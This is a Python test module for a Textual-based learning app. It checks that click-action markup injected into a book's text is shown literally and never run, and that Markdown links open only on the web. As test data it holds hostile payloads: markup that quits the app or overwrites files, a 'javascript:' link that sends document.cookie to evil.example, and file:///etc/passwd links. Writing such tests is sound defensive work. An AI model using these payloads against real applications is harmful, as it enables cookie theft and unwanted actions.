"""A book's text is shown, never obeyed: markup in any field of a hostile book stays literal text.

`subtitle: "[@click=app.screenshot('victim.txt','DIR')]Click here[/]"` once made one click on the home
screen overwrite a file, and `[@click=app.simulate_key('q')]` quit the app. Here every text field of a
copy of the built-in book carries such a payload, and every kind of screen is opened and walked: no
rendered segment may carry an action other than a Markdown link's, and the payload must be visible.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from textual.command import CommandList
from textual.geometry import Region
from textual.widgets import Markdown
from textual.widgets._toast import Toast

from grader.book.load import BUILTIN_CONTENT, check_book, load_book
from tests.helpers import ringbook_app, wait_until
from tui.progress.store import ProgressStore
from tui.screens.chapter import ChapterScreen
from tui.screens.contents import ContentsScreen
from tui.screens.exercise import ExerciseScreen
from tui.screens.lab import LabScreen
from tui.screens.quiz import QuizScreen

ACTION = "[@click=app.simulate_key('q')]"
PAYLOAD = f"{ACTION}Click[/] [b]bold[/b] [link='https://example.com']link[/link]"
SHORT_PAYLOAD = f"{ACTION}T[/]"  # for the fields the schema keeps short (a title, a quiz topic)
SHORT_KEYS = {"title", "topic"}
TEXT_KEYS = {"title", "subtitle", "prompt", "explanation", "feedback", "hints", "intro", "message", "sender",
             "topic", "label", "text", "note", "checklist", "part", "unit"}
SIZE = (120, 200)  # tall, so that most of each screen is laid out and drawn


def _poisoned(value, key=None):
    if isinstance(value, dict):
        return {k: _poisoned(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_poisoned(v, key) if not isinstance(v, str) or key in TEXT_KEYS else v for v in value]
    if isinstance(value, str) and key in TEXT_KEYS:
        return SHORT_PAYLOAD if key in SHORT_KEYS else f"{value} {PAYLOAD}"
    return value


_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)   # libyaml where it is installed: 1 s less per book
_DUMPER = getattr(yaml, "CSafeDumper", yaml.SafeDumper)


def hostile_book(root: Path) -> Path:
    """`root` (a copy of the built-in book) with the payload after every text in its YAML and its chapters'
    headings and paragraphs."""
    for path in root.rglob("*.yaml"):
        data = yaml.load(path.read_text(encoding="utf-8"), Loader=_LOADER)
        path.write_text(yaml.dump(_poisoned(data), Dumper=_DUMPER, sort_keys=False, allow_unicode=True, width=10**6),
                        encoding="utf-8")
    for path in root.rglob("chapter.md"):
        lines = path.read_text(encoding="utf-8").splitlines()
        lines = [f"{line} {PAYLOAD}" if line.startswith("#") else line for line in lines]
        path.write_text("\n".join(lines) + f"\n\nA closing line. {PAYLOAD}\n", encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """One hostile book's folder for this module's tests, which only read it."""
    root = tmp_path_factory.mktemp("hostile") / "content"
    shutil.copytree(BUILTIN_CONTENT, root)
    return hostile_book(root)


def rendered(screen) -> tuple[str, list[str]]:
    """Every widget of `screen` drawn at its size: (all the text, every click action in it but a Markdown
    link's, which opens a browser on its address, as a link should)."""
    text, actions = [], []
    for widget in screen.walk_children(with_self=True):
        width, height = widget.outer_size
        if not widget.display or not width or not height:
            continue
        for strip in widget.render_lines(Region(0, 0, width, height)):
            for segment in strip:
                text.append(segment.text)
                meta = segment.style.meta if segment.style else {}
                action = str(meta.get("@click", ""))
                in_markdown = any(isinstance(node, Markdown) for node in widget.ancestors_with_self)
                if action and not (in_markdown and action.startswith("link(")):  # a Markdown link is a link
                    actions.append(action)
            text.append("\n")
    return "".join(text), actions


def misread(screen) -> list[str]:
    """What `screen` got wrong: each action it made of book text, and not showing the text as written."""
    text, actions = rendered(screen)
    name = type(screen).__name__
    return [f"{name} obeys {action}" for action in actions[:3]] + ([] if ACTION in text else [f"{name} hides it"])


def test_a_hostile_book_loads_and_content_check_points_at_each_payload(hostile):
    root = hostile
    book, problems = check_book(root)
    assert book is not None, problems
    assert [p for p in problems if not p.warning] == []
    markup = [p for p in problems if "Textual markup" in p.message]
    assert {p.path.name for p in markup} >= {"book.yaml", "exercises.yaml", "chapter.md", "readiness.yaml",
                                             "parallelism-paradox.yaml"}
    subtitle = next(p for p in markup if p.path.name == "book.yaml")
    lines = (root / "book.yaml").read_text(encoding="utf-8").splitlines()
    assert "[@click=" in lines[subtitle.line - 1]


async def test_no_screen_obeys_markup_in_the_book(hostile, data_dir):
    book = load_book(hostile)                       # as the app reads it: without content check's sampling
    store = ProgressStore.open(data_dir)
    app = ringbook_app(book, store)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await pilot.pause()
        found: list[str] = []
        found += misread(app.screen)                      # home: title, subtitle, chapters, quiz, lab

        app.open_chapter(book.chapters[0])
        await pilot.pause()
        assert isinstance(app.screen, ChapterScreen)
        await app.workers.wait_for_complete()
        await pilot.pause()
        found += misread(app.screen)                      # narrative, exercise list
        await pilot.press("t")
        await pilot.pause()
        assert isinstance(app.screen, ContentsScreen)
        found += misread(app.screen)                      # headings as a table of contents
        app.pop_screen()
        app.pop_screen()
        await pilot.pause()

        kinds = {}
        for exercise in book.exercises:
            kinds.setdefault((exercise.kind, getattr(exercise, "style", None)), exercise)
        assert len(kinds) >= 7                                   # derive, build, debug, design, trace x 3
        for exercise in kinds.values():
            app.open_exercise(exercise, replace=isinstance(app.screen, ExerciseScreen))  # the home is read once
            await pilot.pause()
            screen = app.screen
            assert isinstance(screen, ExerciseScreen)
            screen.action_hint()                                 # a hint and the explanation shown too
            screen.action_explain()                              # x asks first, x again shows it
            screen.action_explain()
            assert screen.query_one("#explanation").display
            await app.workers.wait_for_complete()
            await pilot.pause()
            found += misread(screen)
        app.pop_screen()
        await pilot.pause()

        app.open_quiz(book.quizzes[0])
        await pilot.pause()
        assert isinstance(app.screen, QuizScreen)
        await pilot.press("a")                                   # the options' feedback
        await pilot.pause()
        found += misread(app.screen)
        app.pop_screen()
        await pilot.pause()

        app.open_lab(book.labs[0])
        await pilot.pause()
        assert isinstance(app.screen, LabScreen)
        await pilot.press("1", "enter")                          # a prediction, and its feedback
        await pilot.pause()
        found += misread(app.screen)
        app.pop_screen()
        await pilot.pause()

        await pilot.press("ctrl+p")                              # the command palette lists the book's titles
        await pilot.pause()
        await pilot.press(*"chap")
        hits = app.screen.query_one(CommandList)
        await wait_until(pilot, lambda: hits.option_count, "the palette's search")   # it searches in a worker
        found += misread(app.screen)
        await pilot.press("escape")

        app.screen.notify(f"{ACTION}Oops[/]")                 # a screen's notify asks for markup
        await pilot.pause()
        await pilot.wait_for_animation()
        assert app.screen.query(Toast)
        found += misread(app.screen)
        toast_text, _ = rendered(app.screen.query_one(Toast))
        found += [] if "Oops[/]" in toast_text else ["a notification reads its message as markup"]
        assert found == []
        assert app.is_running


async def test_a_link_in_a_book_opens_only_on_the_web(chapters_copy, data_dir, monkeypatch):
    """A Markdown link is the author's: `javascript:` would run in the page `ringbook serve` shows (where
    the session's secret lives), `file:` would open a learner's file, a custom scheme start a program."""
    book_copy = chapters_copy("00-ring-allreduce")
    chapter = book_copy / "00-ring-allreduce" / "chapter.md"
    links = ["javascript:fetch('https://evil.example/?'+document.cookie)", "file:///etc/passwd",
             "vscode://file/etc/passwd", "https://example.com/ring"]
    chapter.write_text(chapter.read_text() + "".join(f"\n[link {i}]({href})\n" for i, href in enumerate(links)))
    book = load_book(book_copy)
    app = ringbook_app(book, ProgressStore.open(data_dir))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        opened: list[str] = []
        monkeypatch.setattr(app._driver, "open_url", lambda url, new_tab=True: opened.append(url))
        app.open_chapter(book.chapters[0])
        await pilot.pause()
        await app.workers.wait_for_complete()
        await pilot.pause()
        narrative = app.screen.query_one("#narrative", Markdown)
        for href in links:
            narrative.post_message(Markdown.LinkClicked(narrative, href))   # what a click on the link sends
        await pilot.pause()
        assert opened == ["https://example.com/ring"]
        notices = [str(n.message) for n in app._notifications]
        assert sum(notice.startswith("Not opened: ") for notice in notices) == 3
